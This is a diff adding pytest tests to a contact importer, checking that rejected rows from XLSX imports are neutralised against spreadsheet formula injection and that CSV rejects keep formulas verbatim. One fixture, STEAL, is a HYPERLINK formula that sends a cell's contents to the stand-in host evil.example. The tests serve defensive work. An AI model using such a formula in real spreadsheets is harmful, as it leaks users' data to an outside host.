@@ -1023,3 +1023,53 @@ def test_a_file_that_breaks_mid_way_in_the_background_is_a_clear_error(session, 
 
     with pytest.raises(ImportFileError, match="broken.csv"):
         import_contacts(session, path, default_owner=owner, chunk_size=10, background_read_bytes=0)
+
+
+# --- reject files are safe to open in a spreadsheet ---------------------------------------
+
+STEAL = '=HYPERLINK("http://evil.example/steal?d="&C2,"Open")'
+
+
+def test_the_rejects_of_an_xlsx_are_neutralised_as_an_export_is(session, tmp_path, owner):
+    book = Workbook()
+    for row in [
+        ["Имя", "Email", "@Заметка"],
+        [STEAL, "не почта", "+7 916"],
+        ["-Пётр", "=1+1", "\tтаб"],
+    ]:
+        book.active.append(row)
+    for row in book.active.iter_rows():
+        for cell in row:
+            cell.data_type = "s"  # text that looks like a formula, as a CRM writes it
+    path = tmp_path / "crm.xlsx"
+    book.save(path)
+
+    report = import_contacts(session, path, default_owner=owner)
+
+    assert (report.rows_read, report.rejected) == (2, 2)
+    rows = read_rejects(report.rejects_path, encoding="utf-8-sig", delimiter=";")
+    assert rows[0][:3] == ["Имя", "Email", "'@Заметка"]
+    assert rows[1][:3] == ["'" + STEAL, "не почта", "'+7 916"]
+    assert rows[2][:3] == ["'-Пётр", "'=1+1", "'\tтаб"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
+
+
+def test_a_fixed_xlsx_reject_file_imports_back_without_the_quotes(session, tmp_path, owner):
+    path = write_xlsx(tmp_path / "crm.xlsx", [["Имя", "Email"], ["-Пётр", "не почта"]])
+    rejects = import_contacts(session, path, default_owner=owner).rejects_path
+    fixed = rejects.read_text(encoding="utf-8-sig").replace("не почта", "petr@x.example")
+    rejects.write_text(fixed, encoding="utf-8-sig")
+
+    report = import_contacts(session, rejects, default_owner=owner)
+
+    assert (report.inserted, report.rejected) == (1, 0)
+    assert contacts(session)["petr@x.example"].first_name == "-Пётр"
+
+
+def test_the_rejects_of_a_csv_keep_its_formulas_verbatim(session, tmp_path, owner):
+    path = write_csv(tmp_path / "crm.csv", [["Имя", "Email"], [STEAL, "не почта"]])
+
+    report = import_contacts(session, path, default_owner=owner)
+
+    rows = read_rejects(report.rejects_path, encoding="utf-8", delimiter=",")
+    assert rows[1][:2] == [STEAL, "не почта"]
